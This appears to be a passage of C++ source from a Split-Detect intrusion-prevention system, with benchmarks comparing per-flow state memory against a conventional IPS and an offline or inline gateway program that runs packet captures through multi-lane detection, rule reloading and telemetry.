        engine.process(pkt, net::LinkType::raw_ipv4, alerts);
      }
      const core::SplitDetectStats st = engine.stats_snapshot();
      const double flow_rate = 100.0 *
                               static_cast<double>(st.fast.flows_diverted) /
                               static_cast<double>(st.fast.flows_seen);
      const double pkt_rate = 100.0 * st.slow_packet_fraction();
      // piece hits on benign payload = false-positive diversions
      const double fp_rate = 100.0 *
                             static_cast<double>(st.fast.piece_hits) /
                             static_cast<double>(st.fast.flows_seen);
      std::printf("%4zu %7.1f%% | %11.2f%% %11.2f%% %13.2f%% | small=%llu ooo=%llu piece=%llu\n",
                  p, 100.0 * reorder, flow_rate, pkt_rate, fp_rate,
                  static_cast<unsigned long long>(st.fast.small_segment_anomalies),
                  static_cast<unsigned long long>(st.fast.ooo_anomalies),
                  static_cast<unsigned long long>(st.fast.piece_hits));
      char key[64];
      std::snprintf(key, sizeof key, "p%zu_reorder%.1f", p, 100.0 * reorder);
      rep.metric(std::string(key) + ".flow_divert_pct", flow_rate, "%");
      rep.metric(std::string(key) + ".pkt_divert_pct", pkt_rate, "%");
    }
  }

  std::printf(
      "\nexpected shape: piece-FP diversion falls as p grows (pieces get\n"
      "rarer); small-segment diversion rises with p (threshold 2p-1 climbs\n"
      "into benign packet sizes); reordering adds a floor at every p.\n");
  return rep.write() ? 0 : 1;
}
