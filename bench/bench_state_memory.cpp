// E2 — Per-flow state: Split-Detect vs conventional IPS.
//
// Paper claim: "the processing and storage requirements of this scheme can
// be 10% of that required by a conventional IPS" and "current IPS standards
// require keeping state for 1 million connections".
//
// Method: provision both engines for N connections, establish N concurrent
// clean flows (one in-order data packet each direction), and measure the
// true heap footprint via the byte-exact memory accounting. A second
// scenario adds a reordered 1460-byte segment to a fraction of flows, which
// the conventional IPS must buffer but the fast path only counts. Memory
// accounting is byte-exact and deterministic, so no repeat-timing applies;
// the JSON report carries the per-scenario ratios.
#include <algorithm>

#include "bench_util.hpp"
#include "core/conventional_ips.hpp"
#include "core/fast_path.hpp"
#include "net/builder.hpp"
#include "runtime/runtime.hpp"
#include "util/stats.hpp"

using namespace sdt;

namespace {

net::PacketView make_pkt(Bytes& storage, std::uint32_t flow_id,
                         std::uint32_t seq, std::size_t len,
                         std::uint32_t extra_gap = 0) {
  net::Ipv4Spec ip{.src = net::Ipv4Addr(0x0a000000u + flow_id),
                   .dst = net::Ipv4Addr(192, 168, 0, 1)};
  net::TcpSpec t{.src_port = static_cast<std::uint16_t>(1024 + flow_id % 60000),
                 .dst_port = 80,
                 .seq = seq + extra_gap};
  storage = net::build_tcp_packet(ip, t, Bytes(len, 0x5a));
  return net::PacketView::parse(storage, net::LinkType::raw_ipv4);
}

struct Scenario {
  std::size_t flows;
  double reordered_fraction;
};

}  // namespace

int main(int argc, char** argv) {
  const bench::Options opt = bench::Options::parse(argc, argv);
  bench::JsonReport rep("E2_state_memory",
                        "per-flow state memory (1M-connection sizing)", opt);
  bench::banner(
      "E2: per-flow state memory (1M-connection sizing)",
      "\"storage requirements can be 10% of a conventional IPS\" / \"state "
      "for 1 million connections\"");

  core::SignatureSet sigs = evasion::default_corpus(16);

  std::printf("%9s %6s | %14s %10s | %14s %10s | %7s\n", "flows", "ooo%",
              "fast-path", "B/flow", "conventional", "B/flow", "ratio");
  std::printf("----------------+----------------------------+---------------"
              "-------------+--------\n");

  // --quick keeps the million-flow row out of the CI smoke run; the small
  // scenarios already exercise every code path (the ratio is flow-count
  // independent once tables are warm).
  const std::vector<Scenario> scenarios =
      opt.quick ? std::vector<Scenario>{{10'000, 0.0}, {10'000, 0.10}}
                : std::vector<Scenario>{{10'000, 0.0},
                                        {100'000, 0.0},
                                        {1'000'000, 0.0},
                                        {100'000, 0.02},
                                        {100'000, 0.10}};

  for (const Scenario sc : scenarios) {
    core::FastPathConfig fc;
    fc.piece_len = 8;
    fc.max_flows = sc.flows;
    // Tolerant config so reordered benign flows are counted, not diverted —
    // we are measuring steady-state state here, not detection.
    fc.ooo_limit = 255;
    fc.small_segment_limit = 255;
    core::FastPath fast(sigs, fc);

    core::ConventionalIpsConfig cc;
    cc.max_flows = sc.flows;
    core::ConventionalIps conv(sigs, cc);

    std::vector<core::Alert> alerts;
    Bytes storage;
    for (std::uint32_t i = 0; i < sc.flows; ++i) {
      const bool reorder = (static_cast<double>(i % 1000) / 1000.0) <
                           sc.reordered_fraction;
      {
        const auto pv = make_pkt(storage, i, 1000, 512);
        fast.process(pv, i);
        conv.process(pv, i, alerts);
      }
      if (reorder) {
        // A segment 1460 bytes ahead of the hole: conventional buffers it.
        const auto pv = make_pkt(storage, i, 1512, 1460, 1460);
        fast.process(pv, i);
        conv.process(pv, i, alerts);
      }
    }

    const double fast_total = static_cast<double>(fast.flow_state_bytes());
    const double conv_total = static_cast<double>(conv.flow_state_bytes());
    const double ratio = fast_total / conv_total;
    std::printf("%9zu %5.1f%% | %14s %10.1f | %14s %10.1f | %6.1f%%\n",
                sc.flows, 100.0 * sc.reordered_fraction,
                human_bytes(fast_total).c_str(),
                fast_total / static_cast<double>(sc.flows),
                human_bytes(conv_total).c_str(),
                conv_total / static_cast<double>(sc.flows), 100.0 * ratio);
    char key[64];
    std::snprintf(key, sizeof key, "flows%zu_ooo%.0f.fast_over_conventional",
                  sc.flows, 100.0 * sc.reordered_fraction);
    rep.metric(key, ratio, "ratio");
  }

  std::printf(
      "\nfast-path record: %zu bytes packed (+ table key/links); the\n"
      "conventional engine pays two reassemblers + chunk maps per flow and\n"
      "additionally buffers every out-of-order byte.\n",
      sizeof(core::FastFlowState));
  std::printf("paper: fast path ~10%% of conventional state at 1M flows.\n");
  rep.metric("fast_flow_record_bytes",
             static_cast<double>(sizeof(core::FastFlowState)), "bytes");

  // Multi-lane provisioning: the runtime treats the engine flow budgets as
  // deployment-wide totals and gives each lane total/lanes (floored), so an
  // N-lane deployment costs ~1x the single-engine table memory, not Nx.
  // Lanes own disjoint flows (address-pair affinity), so no capacity is
  // lost; per-lane bytes must scale ~ 1/lanes.
  const std::size_t budget = opt.quick ? (1u << 16) : (1u << 20);
  std::printf("\nper-lane provisioning at a %zu-flow deployment budget "
              "(runtime::RuntimeConfig):\n", budget);
  std::printf("%6s %14s %14s %14s %10s\n", "lanes", "flows/lane", "MiB/lane",
              "total MiB", "vs 1 lane");
  const core::SignatureSet lane_sigs = evasion::default_corpus(16);
  double total_at_1 = 0.0;
  for (const std::size_t lanes : {1u, 2u, 4u, 8u}) {
    runtime::RuntimeConfig rc;
    rc.lanes = lanes;
    rc.engine.fast.piece_len = 8;
    rc.engine.fast.max_flows = budget;
    runtime::Runtime rt(lane_sigs, rc);  // never started: sizing only
    std::size_t lane_bytes = 0;
    for (std::size_t i = 0; i < rt.lanes(); ++i) {
      lane_bytes = std::max(lane_bytes, rt.lane_engine(i).memory_bytes());
    }
    const double mib = static_cast<double>(lane_bytes) / (1024.0 * 1024.0);
    const double total = mib * static_cast<double>(lanes);
    if (lanes == 1) total_at_1 = total;
    std::printf("%6zu %14zu %14.1f %14.1f %9.2fx\n", lanes,
                rt.lane_engine_config().fast.max_flows, mib, total,
                total_at_1 > 0 ? total / total_at_1 : 0.0);
    char key[48];
    std::snprintf(key, sizeof key, "provisioning.lanes%zu.total_vs_1lane",
                  lanes);
    rep.metric(key, total_at_1 > 0 ? total / total_at_1 : 0.0, "ratio");
  }
  std::printf("(a lane's tables also floor at RuntimeConfig::lane_flow_floor "
              "so tiny shares stay usable)\n");
  return rep.write() ? 0 : 1;
}
