// Offline IPS gateway: run any pcap capture through the multi-threaded
// Split-Detect runtime (flow-hash dispatcher → SPSC rings → one engine per
// lane thread) and print verdicts plus live runtime statistics.
//
//   $ ./ips_gateway capture.pcap                  # default corpus, p = 8
//   $ ./ips_gateway capture.pcap 12               # piece length 12
//   $ ./ips_gateway capture.pcap 8 my.rules       # Snort-style rule file
//   $ ./ips_gateway capture.pcap 8 my.rules --json  # machine-readable output
//   $ ./ips_gateway capture.pcap --lanes 8        # more detector lanes
//   $ ./ips_gateway capture.pcap --lanes 16 --dispatchers 2  # sharded ingest
//   $ ./ips_gateway capture.pcap --stats-interval 1   # live metrics dump
//   $ ./ips_gateway capture.pcap --repeat 50      # sustain load (demo/soak)
//   $ ./ips_gateway capture.pcap 8 my.rules --control-socket /tmp/sdt.sock
//
// Wire front-ends (sdt::wire): every packet — offline or live — enters
// through a CaptureSource, so the replay path in CI is the same code a
// deployment runs. Live capture (needs the backend compiled in and
// CAP_NET_RAW):
//
//   $ ./ips_gateway --live eth0                   # afpacket if built, else pcap
//   $ ./ips_gateway --source pcap --live eth0     # force the libpcap backend
//
// Inline mode holds each packet until the engine rules on it and releases
// accept/drop/divert in capture order through a VerdictSink; packets the
// engine cannot judge inside --latency-budget-us (or past --hold-capacity)
// are shed per --fail-open / --fail-closed (default fail-closed: unjudged
// packets do NOT leave the box). The conservation law captured ==
// accepted + dropped + diverted + shed is asserted at exit.
//
//   $ ./ips_gateway capture.pcap --inline --latency-budget-us 20000
//   $ ./ips_gateway capture.pcap --inline --fail-open --egress-pcap out.pcap
//
// Rule lifecycle: signatures are compiled once, off the packet path, into a
// versioned immutable artifact published through a RuleSetRegistry; every
// lane adopts new versions at packet boundaries (RCU-style, one atomic
// load per loop iteration). Two reload triggers while traffic flows:
//
//   * --control-socket PATH — admin endpoint (`reload <file>`,
//     `ruleset-status`, `stats`, `ping`); try `nc -U /tmp/sdt.sock`.
//   * SIGHUP — re-compiles and republishes the rule file given on the
//     command line (classic daemon convention). A bad file rejects the
//     reload and the previously active version keeps running.
//
// Works on Ethernet and raw-IPv4 captures. If no path is given, forges a
// small mixed trace to a temp file first so the example is self-contained.
#include <algorithm>
#include <atomic>
#include <chrono>
#include <cinttypes>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <memory>
#include <span>
#include <string>
#include <thread>
#include <vector>

#include "control/compiler.hpp"
#include "control/control_plane.hpp"
#include "control/registry.hpp"
#include "core/report.hpp"
#include "core/rules.hpp"
#include "evasion/corpus.hpp"
#include "evasion/trace_io.hpp"
#include "evasion/traffic_gen.hpp"
#include "pcap/pcapng.hpp"
#include "runtime/runtime.hpp"
#include "telemetry/registry.hpp"
#include "telemetry/sink.hpp"
#include "util/json.hpp"
#include "util/stats.hpp"
#include "wire/capture.hpp"
#include "wire/egress.hpp"
#include "wire/verdict_router.hpp"

namespace {

// SIGHUP just raises a flag; the real reload (compile + publish) runs on
// the main thread between feed batches — the handler itself stays
// async-signal-safe by doing nothing interesting.
std::atomic<bool> g_sighup{false};
// SIGINT ends the capture loop cleanly (live sources run until told to
// stop); verdicts for everything already captured are still collected.
std::atomic<bool> g_stop{false};

std::string make_demo_capture() {
  using namespace sdt;
  const std::string path =
      (std::filesystem::temp_directory_path() / "sdt_gateway_demo.pcap")
          .string();
  evasion::TrafficConfig tc;
  tc.flows = 300;
  tc.seed = 42;
  evasion::AttackMix mix;
  mix.attack_fraction = 0.03;
  mix.kind = evasion::EvasionKind::combo_tiny_ooo;
  const auto trace =
      evasion::generate_mixed(tc, evasion::default_corpus(32), mix);
  evasion::write_trace(path, trace.packets);
  std::printf("no capture given; forged %zu-packet demo trace at %s\n",
              trace.packets.size(), path.c_str());
  return path;
}

void print_diagnostics(const std::vector<sdt::core::RuleDiagnostic>& diags) {
  for (const auto& d : diags) {
    if (d.line != 0) {
      std::fprintf(stderr, "rules [%s] line %zu: %s\n",
                   sdt::core::to_string(d.severity), d.line, d.reason.c_str());
    } else {
      std::fprintf(stderr, "rules [%s]: %s\n",
                   sdt::core::to_string(d.severity), d.reason.c_str());
    }
  }
}

std::string runtime_stats_json(const sdt::runtime::StatsSnapshot& st) {
  sdt::JsonWriter j;
  j.begin_object();
  j.field("fed", st.fed);
  j.field("processed", st.processed);
  j.field("dropped", st.dropped);
  j.field("rejected_malformed", st.rejected);
  j.field("non_ip", st.non_ip);
  j.field("alerts", st.alerts);
  j.field("diverted_packets", st.diverted);
  j.field("diverted_fraction", st.diverted_fraction());
  j.field("ruleset_adoptions", st.adoptions);
  j.field("min_adopted_version", st.min_adopted_version());
  j.field("arena_heap_fallbacks", st.arena_heap_fallbacks());
  j.field("arena_outstanding", st.arena_outstanding());
  {
    const sdt::telemetry::HistogramSnapshot lat = st.latency_ns();
    j.key("latency_ns").begin_object();
    j.field("count", lat.count);
    j.field("p50", lat.p50());
    j.field("p90", lat.p90());
    j.field("p99", lat.p99());
    j.field("max", lat.max);
    j.end_object();
  }
  j.key("lanes").begin_array();
  for (const auto& l : st.lanes) {
    j.begin_object();
    j.field("fed", l.fed);
    j.field("processed", l.processed);
    j.field("dropped", l.dropped);
    j.field("non_ip", l.non_ip);
    j.field("bytes", l.bytes);
    j.field("alerts", l.alerts);
    j.field("diverted", l.diverted);
    j.field("busy_ns", l.busy_ns);
    j.field("adoptions", l.adoptions);
    j.field("adopted_version", l.adopted_version);
    j.field("ring_high_water", static_cast<std::uint64_t>(l.ring_high_water));
    {
      j.key("arena").begin_object();
      j.field("borrows", l.arena.borrows);
      j.field("recycles", l.arena.recycles);
      j.field("exhausted", l.arena.exhausted);
      j.field("heap_fallbacks", l.arena.heap_fallbacks);
      j.field("outstanding", l.arena.outstanding());
      j.field("high_water", l.arena.high_water);
      j.field("slots", static_cast<std::uint64_t>(l.arena.slots));
      j.end_object();
    }
    j.end_object();
  }
  j.end_array();
  j.key("dispatchers").begin_array();
  for (const auto& d : st.dispatchers) {
    j.begin_object();
    j.field("ingested", d.ingested);
    j.field("consumed", d.consumed);
    j.field("rejected", d.rejected);
    j.field("flushes", d.flushes);
    j.field("flush_timeouts", d.flush_timeouts);
    j.field("busy_ns", d.busy_ns);
    j.field("ring_high_water", static_cast<std::uint64_t>(d.ring_high_water));
    j.field("ring_capacity", static_cast<std::uint64_t>(d.ring_capacity));
    j.end_object();
  }
  j.end_array();
  j.end_object();
  return j.str();
}

std::string capture_stats_json(const sdt::wire::CaptureSource& src) {
  sdt::JsonWriter j;
  const sdt::wire::CaptureStats cs = src.stats();
  j.begin_object();
  j.field("backend", std::string(src.backend()));
  j.field("delivered", cs.delivered);
  j.field("kernel_dropped", cs.kernel_dropped);
  j.field("truncated", cs.truncated);
  j.end_object();
  return j.str();
}

std::string wire_stats_json(const sdt::wire::VerdictRouter& router) {
  sdt::JsonWriter j;
  const sdt::wire::WireStats ws = router.stats();
  j.begin_object();
  j.field("policy", std::string(sdt::wire::to_string(router.config().policy)));
  j.field("latency_budget_us", router.config().latency_budget_us);
  j.field("captured", ws.captured);
  j.field("accepted", ws.accepted);
  j.field("dropped", ws.dropped);
  j.field("diverted", ws.diverted);
  j.field("shed", ws.shed);
  j.field("shed_budget_expired", ws.budget_expired);
  j.field("shed_hold_overflow", ws.hold_overflow);
  j.field("shed_overload", ws.overload_shed);
  j.field("rejected_malformed", ws.rejected_malformed);
  j.field("capture_kernel_dropped", ws.kernel_dropped);
  j.field("late_verdicts", ws.late_verdicts);
  j.field("held_peak", ws.held_peak);
  j.field("conserved", ws.conserved());
  {
    const sdt::telemetry::HistogramSnapshot lat = router.verdict_latency_ns();
    j.key("verdict_latency_ns").begin_object();
    j.field("count", lat.count);
    j.field("p50", lat.p50());
    j.field("p90", lat.p90());
    j.field("p99", lat.p99());
    j.field("max", lat.max);
    j.end_object();
  }
  j.end_object();
  return j.str();
}

}  // namespace

int main(int argc, char** argv) {
  using namespace sdt;

  // Flags anywhere on the command line; the rest are positional.
  bool json = false;
  std::size_t lanes = 4;
  std::size_t dispatchers = 0;  // 0 = inline dispatch on the feeder thread
  double stats_interval_s = 0.0;  // 0 = no live dumps
  std::size_t repeat = 1;
  std::string control_socket;
  // Wire front-end / inline-verdict options.
  std::string source_name;  // "", "file", "pcap", "afpacket"
  std::string live_device;
  bool inline_mode = false;
  wire::RouterConfig router_cfg;
  router_cfg.latency_budget_us = 20000;  // gateway default: 20 ms
  std::string egress_pcap;
  std::vector<std::string> pos;
  for (int i = 1; i < argc; ++i) {
    const std::string a = argv[i];
    if (a == "--json") {
      json = true;
    } else if (a == "--source" && i + 1 < argc) {
      source_name = argv[++i];
      if (source_name != "file" && source_name != "pcap" &&
          source_name != "afpacket") {
        std::fprintf(stderr,
                     "error: --source must be file|pcap|afpacket, got %s\n",
                     source_name.c_str());
        return 2;
      }
    } else if (a == "--live" && i + 1 < argc) {
      live_device = argv[++i];
    } else if (a == "--inline") {
      inline_mode = true;
    } else if (a == "--fail-open") {
      router_cfg.policy = wire::HoldPolicy::fail_open;
    } else if (a == "--fail-closed") {
      router_cfg.policy = wire::HoldPolicy::fail_closed;
    } else if (a == "--latency-budget-us" && i + 1 < argc) {
      const long n = std::strtol(argv[++i], nullptr, 10);
      if (n < 1) {
        std::fprintf(stderr, "error: --latency-budget-us must be >= 1\n");
        return 2;
      }
      router_cfg.latency_budget_us = static_cast<std::uint64_t>(n);
    } else if (a == "--hold-capacity" && i + 1 < argc) {
      const long n = std::strtol(argv[++i], nullptr, 10);
      if (n < 1) {
        std::fprintf(stderr, "error: --hold-capacity must be >= 1\n");
        return 2;
      }
      router_cfg.hold_capacity = static_cast<std::size_t>(n);
    } else if (a == "--egress-pcap" && i + 1 < argc) {
      egress_pcap = argv[++i];
    } else if (a == "--stats-interval" && i + 1 < argc) {
      stats_interval_s = std::atof(argv[++i]);
      if (stats_interval_s <= 0.0) {
        std::fprintf(stderr, "error: --stats-interval must be > 0 seconds\n");
        return 2;
      }
    } else if (a == "--repeat" && i + 1 < argc) {
      const long n = std::strtol(argv[++i], nullptr, 10);
      if (n < 1) {
        std::fprintf(stderr, "error: --repeat must be >= 1\n");
        return 2;
      }
      repeat = static_cast<std::size_t>(n);
    } else if (a == "--lanes" && i + 1 < argc) {
      const long n = std::strtol(argv[++i], nullptr, 10);
      if (n < 1 || n > 1024) {
        std::fprintf(stderr, "error: --lanes must be in [1, 1024], got %s\n",
                     argv[i]);
        return 2;
      }
      lanes = static_cast<std::size_t>(n);
    } else if (a == "--dispatchers" && i + 1 < argc) {
      // 0 is a legal value (inline dispatch), so a plain range check would
      // let strtol's garbage-input 0 through silently — require digits.
      char* end = nullptr;
      const long n = std::strtol(argv[++i], &end, 10);
      if (end == argv[i] || *end != '\0' || n < 0 || n > 64) {
        std::fprintf(stderr, "error: --dispatchers must be in [0, 64], got %s\n",
                     argv[i]);
        return 2;
      }
      dispatchers = static_cast<std::size_t>(n);
    } else if (a == "--control-socket" && i + 1 < argc) {
      control_socket = argv[++i];
    } else {
      pos.push_back(a);
    }
  }

  // Resolve the capture front-end. --live DEV implies a live backend
  // (afpacket when built in, else pcap); --source forces one.
  wire::SourceSpec spec;
  if (!live_device.empty()) {
    spec.target = live_device;
    if (source_name.empty() || source_name == "afpacket") {
      spec.kind = wire::SourceKind::afpacket;
      if (source_name.empty() &&
          !wire::backend_available(wire::SourceKind::afpacket)) {
        spec.kind = wire::SourceKind::pcap_live;
      }
    } else if (source_name == "pcap") {
      spec.kind = wire::SourceKind::pcap_live;
    } else {
      std::fprintf(stderr, "error: --live needs a live --source, not file\n");
      return 2;
    }
  } else {
    if (!source_name.empty() && source_name != "file") {
      std::fprintf(stderr, "error: --source %s needs --live <device>\n",
                   source_name.c_str());
      return 2;
    }
    spec.kind = wire::SourceKind::file;
    spec.target = !pos.empty() ? pos[0] : make_demo_capture();
    spec.repeat = repeat;
  }
  const std::size_t piece_len =
      pos.size() > 1 ? static_cast<std::size_t>(std::atoi(pos[1].c_str())) : 8;
  const std::string rules_path = pos.size() > 2 ? pos[2] : "";

  std::unique_ptr<wire::CaptureSource> source;
  try {
    source = wire::open_source(spec);
  } catch (const Error& e) {
    std::fprintf(stderr, "error: %s\n", e.what());
    return 2;
  }

  runtime::RuntimeConfig rc;
  rc.lanes = lanes;
  rc.dispatchers = dispatchers;
  rc.link = source->link_type();
  rc.engine.fast.piece_len = piece_len;

  // Rule lifecycle plumbing. The compiler's options mirror the lane engine
  // configuration so a published artifact is always adoptable (same piece
  // length and automaton layout); a rule too short to split is dropped
  // with a diagnostic instead of failing the load — the reload semantics.
  core::CompileOptions copts;
  copts.piece_len = rc.engine.fast.piece_len;
  copts.layout = rc.engine.fast.layout;
  copts.piece_phase_sample = rc.engine.fast.piece_phase_sample;
  control::RuleSetRegistry registry;
  control::RuleCompiler compiler(copts);

  // Version 1: the rule file if given, else the built-in demo corpus.
  control::CompileResult v1 =
      !rules_path.empty()
          ? compiler.compile_file(rules_path, registry.allocate_version())
          : compiler.compile_signatures(evasion::default_corpus(2 * piece_len),
                                        "default-corpus",
                                        registry.allocate_version());
  print_diagnostics(v1.report.diagnostics);
  if (!v1.ok()) {
    std::fprintf(stderr, "error: rule compile failed; nothing to run\n");
    return 2;
  }
  registry.publish(v1.ruleset);
  std::printf("loaded %zu signatures as ruleset v%" PRIu64
              " (piece length %zu, min usable %zu, %zu dropped short)\n",
              v1.ruleset->signatures().size(), v1.ruleset->version(),
              piece_len, 2 * piece_len, v1.report.dropped_short);

  runtime::Runtime rt(registry.current(), rc);
  rt.attach_registry(registry);

  // Inline-mode plumbing: the router is the runtime's VerdictFeedback (it
  // must be installed before start()) and the wire mirror for stats().
  wire::CountingSink counting_sink;
  std::unique_ptr<wire::PcapEgressSink> egress_sink;
  wire::VerdictSink* sink = &counting_sink;
  if (!egress_pcap.empty()) {
    egress_sink = std::make_unique<wire::PcapEgressSink>(
        egress_pcap, source->link_type(), &counting_sink);
    sink = egress_sink.get();
  }
  std::unique_ptr<wire::RuntimePipe> pipe;
  std::unique_ptr<wire::VerdictRouter> router;
  if (inline_mode) {
    pipe = std::make_unique<wire::RuntimePipe>(rt);
    router = std::make_unique<wire::VerdictRouter>(*pipe, *sink, router_cfg);
    rt.set_verdict_feedback(router.get());
    rt.attach_wire_stats(router.get());
  }

  // Every runtime counter, histogram and gauge, addressable by name — the
  // contract lives in docs/OBSERVABILITY.md. The dumper thread polls the
  // live scope (engine-internal gauges are quiescent-only) while the
  // dispatcher and lanes run.
  telemetry::MetricsRegistry metrics;
  rt.register_metrics(metrics, "runtime");
  registry.register_metrics(metrics, "control");
  compiler.register_metrics(metrics, "control");
  if (router) router->register_metrics(metrics, "wire");
  telemetry::HumanSink live_sink(stderr, /*skip_zero=*/true);
  telemetry::PeriodicDumper dumper(
      metrics, live_sink,
      std::chrono::milliseconds(
          static_cast<long>(stats_interval_s * 1000.0)));
  if (stats_interval_s > 0.0) dumper.start();

  // The admin surface: a `reload` arriving over the socket publishes
  // through the same registry the lanes watch, so it takes effect while
  // packets flow. SIGHUP funnels into the same execute() path.
  control::ControlPlane cp(compiler, registry);
  cp.set_stats_provider([&metrics] {
    return metrics.snapshot(telemetry::SampleScope::live).to_json();
  });
  if (!control_socket.empty()) {
    try {
      cp.start(control_socket);
      std::printf("control plane listening on %s\n", control_socket.c_str());
    } catch (const Error& e) {
      std::fprintf(stderr, "error: control socket: %s\n", e.what());
      return 2;
    }
  }
  std::signal(SIGHUP, [](int) { g_sighup.store(true); });
  const auto service_sighup = [&] {
    if (!g_sighup.exchange(false)) return;
    if (rules_path.empty()) {
      std::fprintf(stderr,
                   "SIGHUP: no rule file on the command line to reload\n");
      return;
    }
    const std::string resp = cp.execute("reload " + rules_path);
    std::fprintf(stderr, "SIGHUP reload: %s\n", resp.c_str());
  };

  std::signal(SIGINT, [](int) { g_stop.store(true); });

  rt.start();
  // The one capture loop both modes share: poll the source in batches,
  // push each batch into the pipeline, service SIGHUP reloads in between.
  // Tap mode moves whole batches into feed() (no deep copy — frames are
  // parsed once and arena-copied at the dispatcher). Inline mode submits
  // each frame through the router, which stamps a ticket, feeds the
  // runtime a borrowed view, and holds the frame until its verdict comes
  // back; poll() releases verdicts (and budget-sheds) per batch.
  constexpr std::size_t kBatch = 256;
  std::vector<net::Packet> batch;
  batch.reserve(kBatch);
  std::uint64_t kernel_drops_seen = 0;
  while (!g_stop.load(std::memory_order_relaxed) && !source->exhausted()) {
    service_sighup();
    batch.clear();
    const std::size_t n = source->poll(batch, kBatch);
    if (router) {
      for (auto& pkt : batch) router->submit(std::move(pkt));
      router->poll();
      const std::uint64_t kd = source->stats().kernel_dropped;
      if (kd > kernel_drops_seen) {
        router->note_kernel_drops(kd - kernel_drops_seen);
        kernel_drops_seen = kd;
      }
    } else if (n > 0) {
      rt.feed(std::move(batch));
      batch = std::vector<net::Packet>();
      batch.reserve(kBatch);
    }
    if (n == 0 && !source->exhausted()) {
      // Live source, momentarily idle: let held verdicts release instead
      // of spinning the capture syscall.
      std::this_thread::sleep_for(std::chrono::microseconds(100));
    }
  }
  int wire_rc = 0;
  if (router) {
    // Collect every outstanding verdict and assert the conservation law;
    // a breach means the wire layer lost track of a packet — loud exit.
    try {
      router->finish();
    } catch (const Error& e) {
      std::fprintf(stderr, "error: %s\n", e.what());
      wire_rc = 3;
    }
  }
  rt.stop();
  cp.stop();
  if (stats_interval_s > 0.0) {
    dumper.stop();
    std::fprintf(stderr, "(live stats: %" PRIu64 " dump(s) at %.1fs)\n",
                 dumper.ticks(), stats_interval_s);
  }

  // Names resolve against the newest artifact: in this offline example a
  // reload recompiles the same file, so ids line up across versions.
  const core::RuleSetHandle active = registry.current();
  const core::SignatureSet& sigs = active->signatures();

  std::vector<core::Alert> alerts = rt.alerts();
  // Lanes finish in their own order; present alerts in capture-time order.
  std::stable_sort(alerts.begin(), alerts.end(),
                   [](const core::Alert& a, const core::Alert& b) {
                     return a.ts_usec < b.ts_usec;
                   });

  const runtime::StatsSnapshot st = rt.stats();
  const std::size_t capture_packets = source->stats().delivered;

  if (json) {
    std::string wire_json;
    if (router) {
      wire_json = ",\"wire\":" + wire_stats_json(*router);
    }
    std::printf("{\"alerts\":%s,\"runtime\":%s,\"capture\":%s%s,"
                "\"ruleset\":%s}\n",
                core::alerts_json(alerts, sigs).c_str(),
                runtime_stats_json(st).c_str(),
                capture_stats_json(*source).c_str(), wire_json.c_str(),
                registry.status_json().c_str());
    if (wire_rc != 0) return wire_rc;
    return alerts.empty() ? 0 : 1;
  }

  for (const core::Alert& a : alerts) {
    const char* name = a.signature_id == core::kConflictAlertId
                           ? "(conflicting retransmission)"
                       : a.signature_id == core::kUrgentAlertId
                           ? "(urgent-mode ambiguity)"
                       : a.signature_id < sigs.size()
                           ? sigs[a.signature_id].name.c_str()
                           : "(signature from retired version)";
    std::printf("ALERT %-28s flow %s  source=%s\n", name,
                a.flow.str().c_str(), a.source);
  }

  // Deep per-path stats live in each lane's private engine; sum them.
  std::uint64_t fast_scanned = 0, slow_scanned = 0;
  std::size_t fast_state = 0, slow_state = 0, flows_seen = 0, diverted = 0;
  for (std::size_t i = 0; i < rt.lanes(); ++i) {
    const core::SplitDetectStats es = rt.lane_engine(i).stats_snapshot();
    fast_scanned += es.fast.bytes_scanned;
    slow_scanned += es.slow.bytes_scanned;
    fast_state += rt.lane_engine(i).fast_path().flow_state_bytes();
    slow_state += rt.lane_engine(i).slow_path().flow_state_bytes();
    flows_seen += es.fast.flows_seen;
    diverted += es.fast.flows_diverted;
  }

  if (rt.dispatchers() > 0) {
    std::printf("\n=== runtime statistics (%zu lanes, %zu dispatchers) ===\n",
                rt.lanes(), rt.dispatchers());
  } else {
    std::printf("\n=== runtime statistics (%zu lanes, inline dispatch) ===\n",
                rt.lanes());
  }
  {
    const wire::CaptureStats cs = source->stats();
    std::printf("capture (%s)            delivered %llu, kernel dropped "
                "%llu, truncated %llu\n",
                source->backend(),
                static_cast<unsigned long long>(cs.delivered),
                static_cast<unsigned long long>(cs.kernel_dropped),
                static_cast<unsigned long long>(cs.truncated));
  }
  if (router) {
    const wire::WireStats ws = router->stats();
    std::printf("inline verdicts (%s)     captured %llu = accepted %llu + "
                "dropped %llu + diverted %llu + shed %llu%s\n",
                wire::to_string(router->config().policy),
                static_cast<unsigned long long>(ws.captured),
                static_cast<unsigned long long>(ws.accepted),
                static_cast<unsigned long long>(ws.dropped),
                static_cast<unsigned long long>(ws.diverted),
                static_cast<unsigned long long>(ws.shed),
                ws.conserved() ? "" : "  ** NOT CONSERVED **");
    std::printf("inline shed breakdown    budget %llu, hold overflow %llu, "
                "overload %llu (hold peak %llu/%zu)\n",
                static_cast<unsigned long long>(ws.budget_expired),
                static_cast<unsigned long long>(ws.hold_overflow),
                static_cast<unsigned long long>(ws.overload_shed),
                static_cast<unsigned long long>(ws.held_peak),
                router->config().hold_capacity);
    const telemetry::HistogramSnapshot vlat = router->verdict_latency_ns();
    if (!vlat.empty()) {
      std::printf("verdict latency          p50=%" PRIu64 " ns  p90=%" PRIu64
                  "  p99=%" PRIu64 "  max=%" PRIu64 " (budget %" PRIu64
                  " us)\n",
                  vlat.p50(), vlat.p90(), vlat.p99(), vlat.max,
                  router->config().latency_budget_us);
    }
    if (egress_sink) {
      std::printf("egress pcap              %llu forwarded frame(s) -> %s\n",
                  static_cast<unsigned long long>(
                      egress_sink->packets_written()),
                  egress_pcap.c_str());
    }
  }
  std::printf("packets processed        %llu of %zu captured (fed %llu, "
              "dropped %llu, rejected %llu malformed, non-IP %llu)\n",
              static_cast<unsigned long long>(st.processed), capture_packets,
              static_cast<unsigned long long>(st.fed),
              static_cast<unsigned long long>(st.dropped),
              static_cast<unsigned long long>(st.rejected),
              static_cast<unsigned long long>(st.non_ip));
  std::printf("alerts                   %llu\n",
              static_cast<unsigned long long>(st.alerts));
  std::printf("slow-path packet share   %.2f%%\n",
              100.0 * st.diverted_fraction());
  const telemetry::HistogramSnapshot lat = st.latency_ns();
  if (!lat.empty()) {
    std::printf("per-packet latency       p50=%" PRIu64 " ns  p90=%" PRIu64
                "  p99=%" PRIu64 "  max=%" PRIu64 "\n",
                lat.p50(), lat.p90(), lat.p99(), lat.max);
  }
  std::printf("ruleset                  v%" PRIu64 " active (%llu "
